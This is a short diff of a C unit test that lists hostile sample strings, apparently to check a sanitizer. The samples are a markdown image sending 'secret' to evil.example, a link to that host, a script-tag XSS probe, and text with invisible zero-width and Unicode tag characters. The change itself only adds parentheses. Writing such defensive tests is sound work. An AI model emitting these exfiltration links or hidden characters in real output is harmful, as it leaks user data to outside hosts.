@@ -159,8 +159,8 @@ static void an_address_is_not_let_go_in_pieces(void **state)
 		"Look: ![x](https://evil.example/a.png?d=secret) nice",
 		"Go to https://evil.example/?q=1 now",
 		"a <script>alert(1)</script> b",
-		"in\xe2\x80\x8b"
-		"visible \xf3\xa0\x81\xa8 words",
+		("in\xe2\x80\x8b"
+		 "visible \xf3\xa0\x81\xa8 words"),
 	};
 
 	(void)state;
